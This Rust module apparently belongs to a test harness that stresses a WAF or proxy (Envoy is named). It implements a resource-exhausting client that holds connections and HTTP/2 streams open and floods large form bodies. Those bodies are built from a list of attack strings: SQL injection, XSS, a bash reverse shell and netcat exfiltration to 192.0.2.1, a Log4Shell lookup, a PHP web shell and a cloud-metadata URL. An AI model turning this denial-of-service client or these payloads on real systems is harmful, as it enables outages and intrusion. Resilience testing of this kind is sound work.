//! One client that takes more than its share: of connections, of streams, of room for bodies, of time. It goes on
//! until it is dropped, and begins again what is ended for it.

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread::{JoinHandle, spawn};
use std::time::Duration;

use serde::Deserialize;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::failure::{Outcome, doing};
use crate::frames::{self, Frame};
use crate::http::{HOST, Request};

/// What it does.
#[derive(Clone, Debug, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "kebab-case", rename_all_fields = "kebab-case", deny_unknown_fields)]
pub enum Greed {
    /// Keeps so many connections open, each with the beginning of a request.
    Connections {
        /// How many.
        count: u32,
        /// Bytes that each sends.
        says: String,
        /// KiB of a body in chunks, without its end, that each sends behind them.
        #[serde(default)]
        chunked_kib: usize,
    },
    /// Keeps so many streams of one HTTP/2 connection open, each with the header fields of a body that does not come.
    Streams {
        /// Lengths that are announced; Envoy takes 100 streams of a connection.
        content_lengths: Vec<usize>,
    },
    /// Sends so many attacks in a second, in bodies that cost as much as a body of this size can.
    Bodies {
        /// How many.
        per_second: u32,
        /// KiB of each.
        kib: usize,
        /// The path, which says the route.
        path: String,
    },
}

/// Such a client at work.
#[derive(Debug)]
pub struct Greedy {
    over: Arc<AtomicBool>,
    seen: Seen,
    thread: Option<JoinHandle<()>>,
}

/// Statuses of its answers, and how often each came; 0 is a connection that ended without one.
type Seen = Arc<Mutex<BTreeMap<u16, u32>>>;

/// Connections that are opened in a second. More at once would be a flood of connections, which is another matter.
const OPENED_PER_SECOND: u32 = 200;
/// Before a connection that was ended is opened again, at least.
const PAUSE: Duration = Duration::from_millis(250);
/// How often it looks whether it is over.
const LOOK: Duration = Duration::from_millis(20);
/// Longer than everything that answers.
const PATIENCE: Duration = Duration::from_secs(90);

impl Greedy {
    /// Begins, from the address `from`.
    ///
    /// # Errors
    ///
    /// If there is no runtime to be had.
    pub fn start(from: Ipv4Addr, to: SocketAddr, greed: &Greed) -> Outcome<Self> {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
        let runtime = runtime.map_err(doing("make a runtime"))?;
        let (over, seen) = (Arc::new(AtomicBool::new(false)), Seen::default());
        let client = Client { from, to, seen: Arc::clone(&seen), over: Arc::clone(&over) };
        let greed = greed.clone();
        let thread = spawn(move || match &greed {
            Greed::Streams { content_lengths } => client.streams(content_lengths),
            Greed::Connections { count, says, chunked_kib } => {
                runtime.block_on(client.until_over(client.connections(*count, says, *chunked_kib)));
            }
            Greed::Bodies { per_second, kib, path } => {
                runtime.block_on(client.until_over(client.bodies(*per_second, *kib, path)));
            }
        });
        Ok(Self { over, seen, thread: Some(thread) })
    }

    /// Statuses of its answers so far, and how often each came.
    pub fn answers(&self) -> BTreeMap<u16, u32> {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

impl Drop for Greedy {
    fn drop(&mut self) {
        self.over.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

#[derive(Clone)]
struct Client {
    from: Ipv4Addr,
    to: SocketAddr,
    seen: Seen,
    over: Arc<AtomicBool>,
}

impl Client {
    fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }

    async fn until_over(&self, work: impl Future<Output = ()>) {
        let ended = async {
            while !self.is_over() {
                sleep(LOOK).await;
            }
        };
        tokio::select! {
            () = work => {}
            () = ended => {}
        }
    }

    fn tell(&self, status: u16) {
        let mut seen = self.seen.lock().unwrap_or_else(PoisonError::into_inner);
        *seen.entry(status).or_default() += 1;
    }

    async fn connect(&self) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::from((self.from, 0)))?;
        socket.connect(self.to).await
    }

    async fn connections(&self, count: u32, says: &str, chunked_kib: usize) {
        let mut all = JoinSet::new();
        for number in 0..count {
            let (client, says) = (self.clone(), says.to_owned());
            let first = Duration::from_secs(1) * number / OPENED_PER_SECOND;
            let pause = PAUSE.max(Duration::from_secs(1) * count / OPENED_PER_SECOND);
            all.spawn(async move {
                sleep(first).await;
                loop {
                    let status = client.hold(&says, chunked_kib).await.unwrap_or(0);
                    client.tell(status);
                    sleep(pause).await;
                }
            });
        }
        while all.join_next().await.is_some() {}
    }

    /// Begins a request and waits for its answer, which is there when somebody has enough of it.
    async fn hold(&self, says: &str, chunked_kib: usize) -> std::io::Result<u16> {
        const CHUNK_KIB: usize = 64;
        let mut stream = self.connect().await?;
        stream.write_all(says.as_bytes()).await?;
        let chunk = "a".repeat(CHUNK_KIB << 10);
        let chunk = format!("{:x}\r\n{chunk}\r\n", chunk.len());
        for _ in 0..chunked_kib / CHUNK_KIB {
            // Who has answered may take no more.
            if stream.write_all(chunk.as_bytes()).await.is_err() {
                break;
            }
        }
        read_status(&mut stream).await
    }

    fn streams(&self, lengths: &[usize]) {
        while !self.is_over() {
            // The connection may end, too.
            let _ = self.hold_streams(lengths);
            std::thread::sleep(PAUSE);
        }
    }

    /// The streams are opened at once; one that ends is opened again.
    fn hold_streams(&self, lengths: &[usize]) -> Outcome<()> {
        let mut connection = frames::Connection::open(self.from, self.to)?;
        let begin = |connection: &mut frames::Connection, length: usize| {
            let text = length.to_string();
            let more = [("content-type", "application/json"), ("content-length", &*text)];
            let fields = frames::fields("POST", "/cart", &more);
            connection.begin(&[Frame::Headers { fields, pieces: 1, end_stream: false }])
        };
        let mut held = BTreeMap::new();
        for length in lengths {
            held.insert(begin(&mut connection, *length)?, *length);
        }
        while !self.is_over() {
            if let Some((stream, answer)) = connection.next_answer(LOOK)? {
                self.tell(answer.status);
                std::thread::sleep(LOOK);
                if let Some(length) = held.remove(&stream) {
                    held.insert(begin(&mut connection, length)?, length);
                }
            }
        }
        Ok(())
    }

    async fn bodies(&self, per_second: u32, kib: usize, path: &str) {
        let form = "application/x-www-form-urlencoded";
        let request = Request::post(path, form, dense_form(kib << 10, 50)).browser();
        let request: Arc<[u8]> = request.header("connection", "close").bytes().into();
        let mut ticks = tokio::time::interval(Duration::from_secs(1) / per_second.max(1));
        let mut all = JoinSet::new();
        loop {
            ticks.tick().await;
            while all.try_join_next().is_some() {}
            let (client, request) = (self.clone(), Arc::clone(&request));
            all.spawn(async move {
                let exchange = async {
                    let mut stream = client.connect().await?;
                    // An answer may come before everything is sent.
                    let _ = stream.write_all(&request).await;
                    read_status(&mut stream).await
                };
                client.tell(exchange.await.unwrap_or(0));
            });
        }
    }
}

/// The status of the first answer, which is not `100 Continue`.
async fn read_status(stream: &mut TcpStream) -> std::io::Result<u16> {
    let mut head = Vec::new();
    let read = async {
        while !head.windows(4).any(|end| end == b"\r\n\r\n") {
            if stream.read_buf(&mut head).await? == 0 {
                break;
            }
        }
        std::io::Result::Ok(())
    };
    let _ = timeout(PATIENCE, read).await;
    let head = String::from_utf8_lossy(&head).into_owned();
    Ok(head.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0))
}

/// Words of which rules of each family look for some: what they stand in is scanned by many rules, and matches.
const WORDS: [&str; 24] = [
    "' or 1=1 --",
    "union select password from users",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc 192.0.2.1 80",
    "$(wget http://192.0.2.1/x -O /tmp/x)",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://192.0.2.1/a}",
    "'; exec xp_cmdshell('dir'); --",
    "javascript:eval(String.fromCharCode(97))",
    "sleep(5) and benchmark(1000000,md5(1))",
    "java.lang.Runtime.getRuntime().exec",
    "/bin/bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
    "file:///c:/windows/win.ini",
    "require('child_process').exec('id')",
    "process.env constructor.prototype __proto__",
    "\" onmouseover=\"prompt(1)\" style=\"x",
    "select case when (1=1) then 1 else 0 end",
    "http://169.254.169.254/latest/meta-data/",
    "base64_decode(gzinflate($_POST[x]))",
    "waitfor delay '0:0:5' having 1=1",
    "ifconfig uname -a whoami",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
];

/// A form of about so many bytes in so many arguments, all of it words of attacks: what costs rules the most.
pub fn dense_form(bytes: usize, arguments: usize) -> String {
    let mut form = String::new();
    let each = bytes / arguments.max(1);
    let mut words = WORDS.iter().cycle();
    for number in 0..arguments {
        let end = form.len() + each;
        form.push_str(&format!("a{number}="));
        while form.len() < end {
            if let Some(word) = words.next() {
                encode(&mut form, word);
            }
            form.push('+');
        }
        form.push('&');
    }
    form.pop();
    form
}

/// Percent-encodes what means something in a form.
fn encode(form: &mut String, word: &str) {
    for byte in word.bytes() {
        match byte {
            b' ' => form.push('+'),
            b'&' | b'%' | b'+' | b'=' | b'#' => form.push_str(&format!("%{byte:02X}")),
            byte => form.push(char::from(byte)),
        }
    }
}

/// The beginning of a request, as a browser would send it, with these lines in its head.
pub fn head(line: &str, fields: &str) -> String {
    let mut head = format!("{line} HTTP/1.1\r\nhost: {HOST}\r\n");
    for (name, value) in crate::http::BROWSER {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    format!("{head}{fields}\r\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_dense_form_has_its_size_and_its_arguments() {
        let form = dense_form(400 << 10, 50);
        assert!((400 << 10..410 << 10).contains(&form.len()), "{}", form.len());
        assert_eq!(form.split('&').count(), 50);
        assert!(form.split('&').all(|pair| pair.matches('=').count() == 1));
        assert!(form.contains("union+select"), "{:.200}", form);
    }
}
